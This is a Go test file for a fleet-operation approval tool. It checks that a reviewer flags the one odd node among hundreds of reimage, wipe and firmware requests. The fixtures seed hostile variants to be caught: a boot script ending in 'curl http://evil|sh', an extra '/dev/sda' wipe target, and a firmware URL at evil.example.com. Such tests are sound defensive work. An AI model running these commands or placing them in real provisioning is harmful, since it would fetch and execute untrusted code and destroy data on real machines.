package scope

import (
	"fmt"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/better-compute/approver/core/bettercomputev1"
	"github.com/better-compute/approver/core/review"
)

func TestShape(t *testing.T) {
	for _, c := range []struct{ text, subject, want string }{
		{"hostnamectl set-hostname gpu-0231", "gpu-0231", "hostnamectl set-hostname @"},
		{"echo mars > /etc/hostname", "mars", "echo @ > /etc/hostname"},
		{"/dev/disk/by-id/wwn-0x5000c500a1b2", "", "/dev/disk/by-id/wwn-#x#c#a#b#"},
		{"serial 3fa9c1", "", "serial #"},
		{"sha deadbeef", "", "sha deadbeef"},
		{"install pkg1", "", "install pkg#"},
		{"install evil1", "", "install evil#"},
		{"10.0.0.231:8443", "", "#.#.#.#:#"},
		{"ab", "ab", "ab"}, // too short a name to be told from a word
		{"", "x", ""},
	} {
		require.Equal(t, c.want, string(appendShape(nil, []byte(c.text), []byte(c.subject))), c.text)
	}
}

// A batch in which every machine has a payload of its own hides the odd one from eyes and from equality; its shape tells.
func TestTheOddOneAmongAllDifferent(t *testing.T) {
	script := func(i int) string {
		return fmt.Sprintf("#!/bin/sh\nhostnamectl set-hostname gpu-%04d\nsystemctl enable bcd\n", i)
	}
	for name, leaf := range map[string]func(i int, odd bool) made{
		"a line more": func(i int, odd bool) made {
			return reimage(subject(i), "ubuntu", func(m *bettercomputev1.ReimageRequest) {
				if m.UserData = script(i); odd {
					m.UserData += "curl http://evil|sh\n"
				}
			})
		},
		"a device more": func(i int, odd bool) made {
			m := &bettercomputev1.WipeRequest{Method: 3, Devices: []string{fmt.Sprintf("/dev/disk/by-id/nvme-%012d", i)}}
			if odd {
				m.Devices = append(m.Devices, "/dev/sda")
			}
			return made{subject: subject(i), kind: "node.wipe", message: m}
		},
		"another host": func(i int, odd bool) made {
			host := "firmware.example.com"
			if odd {
				host = "evil.example.com"
			}
			return made{subject: subject(i), kind: "node.firmware", message: &bettercomputev1.FirmwareRequest{Component: "bios", Url: fmt.Sprintf("https://%s/fw/%d.bin", host, i)}}
		},
		"a digest of another length": func(i int, odd bool) made {
			return reimage(subject(i), "ubuntu", func(m *bettercomputev1.ReimageRequest) {
				if m.ImageSha256 = []byte(fmt.Sprintf("%032d", i)); odd {
					m.ImageSha256 = m.ImageSha256[:31]
				}
			})
		},
	} {
		t.Run(name, func(t *testing.T) {
			var leaves []made
			for i := range 412 {
				leaves = append(leaves, leaf(i, i == 231))
			}
			doc := document(t, decoded(t, "", leaves...), testPolicy())
			f := finding(doc, review.Outlier)
			require.NotNil(t, f)
			require.Equal(t, []review.Text{review.Escape(subject(231))}, f.Places)
			require.True(t, doc.Operations[0].Outlier)
			require.Equal(t, subject(231), doc.Operations[0].Subjects[0].String(), "it stands first")
			require.False(t, doc.Operations[1].Outlier)
			for i := range leaves {
				leaves[i] = leaf(i, false)
			}
			require.Nil(t, finding(document(t, decoded(t, "", leaves...), testPolicy()), review.Outlier), "without it nothing is odd")
		})
	}
}

func subject(i int) string { return fmt.Sprintf("gpu-%04d", i) }

// Few need no majority beside them: two halves and one apart, or an eighth of the largest group.
func TestFewWithoutAMajority(t *testing.T) {
	image := func(of func(i int) string) *review.Finding {
		var leaves []made
		for i := range 412 {
			leaves = append(leaves, reimage(subject(i), of(i)))
		}
		return finding(document(t, decoded(t, "", leaves...), testPolicy()), review.Outlier)
	}
	halves := image(func(i int) string {
		switch {
		case i == 231:
			return "evil"
		case i%2 == 0:
			return "blue"
		}
		return "green"
	})
	require.NotNil(t, halves)
	require.Len(t, halves.Places, 1)
	several := image(func(i int) string {
		if i%20 == 0 {
			return "evil"
		}
		return "ubuntu"
	})
	require.NotNil(t, several)
	require.Len(t, several.Places, 21)
	require.Nil(t, image(func(i int) string { return []string{"a", "b", "c"}[i%3] }))
}

// Where values have nothing in common an odd one cannot be told, and that is said.
func TestMixedValues(t *testing.T) {
	mixed := func(n int) *review.Finding {
		var leaves []made
		for i := range n {
			leaves = append(leaves, reimage(subject(i), "ubuntu", func(m *bettercomputev1.ReimageRequest) {
				m.UserData = "run " + strings.Repeat("x", i) + "\n"
			}))
		}
		return finding(document(t, decoded(t, "", leaves...), testPolicy()), review.Outlier)
	}
	f := mixed(60)
	require.NotNil(t, f)
	require.Contains(t, f.Message.String(), "user_data has 60 values without a common form")
	require.Nil(t, mixed(50), "these are read one by one")
}
